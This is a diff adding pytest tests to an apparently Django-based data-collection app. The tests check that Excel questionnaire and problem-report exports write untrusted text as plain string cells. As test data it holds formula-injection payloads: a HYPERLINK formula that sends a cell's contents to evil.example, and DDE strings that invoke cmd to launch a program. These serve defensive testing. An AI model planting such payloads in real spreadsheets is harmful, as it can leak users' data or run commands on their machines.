@@ -1,0 +1,56 @@
+"""The questionnaire and its problem report write names and comments as text, never as
+formulas, however they begin."""
+
+import polars as pl
+import pytest
+from django.db import transaction
+
+from miara.catalogue.models import Variable
+from miara.collection.cycles import cycle_open
+from miara.collection.excel import problems_workbook, template_build
+from miara.collection.models import Submission
+from miara.collection.services import parse_values, values_write
+from miara.fileio import Problem
+from miara.fileio.tests.test_formulas import assert_text_cells
+from miara.units.models import Unit
+
+pytestmark = pytest.mark.django_db
+
+COMMENT = '=HYPERLINK("http://evil.example/?"&E2,"click")'
+VARIABLE = "@SUM(1+1)*cmd|' /C calc'!A0"
+UNIT = "-2+3+cmd|' /C calc'!A0"
+INSTRUCTIONS = "=1+1"
+
+
+def test_the_questionnaire_writes_hostile_text_as_string_cells(alice):
+    Unit.objects.filter(code="A1").update(name=UNIT)
+    Variable.objects.filter(code="WASTE_T").update(name={"en": VARIABLE})
+    cycle = cycle_open(
+        period="2024",
+        name="Year 2024",
+        variable_codes=["WASTE_T", "RECYCLED_T"],
+        unit_codes=["A1"],
+        acting_user=alice,
+    )
+    # The coordinator's own paragraphs are written one per cell.
+    type(cycle).objects.filter(pk=cycle.pk).update(instructions={"en": INSTRUCTIONS})
+    frame = pl.DataFrame(
+        {
+            "unit": ["A1"],
+            "variable": ["WASTE_T"],
+            "period": ["2024"],
+            "value": ["1000"],
+            "comment": [COMMENT],
+            "__line": [1],
+        }
+    )
+    with transaction.atomic():
+        values_write(rows=parse_values(frame, source="test"), user=None, channel="form")
+    submission = Submission.objects.get(cycle=cycle, unit__code="A1")
+    content = template_build(submission=submission, language="en")
+    assert_text_cells(content, [COMMENT, VARIABLE, INSTRUCTIONS, f"{UNIT} (A1)"])
+
+
+def test_the_problem_report_writes_hostile_text_as_string_cells():
+    content = problems_workbook([Problem("=1+1", line=2, column="@x", cell="E2")], "en")
+    assert_text_cells(content, ["=1+1", "@x"])
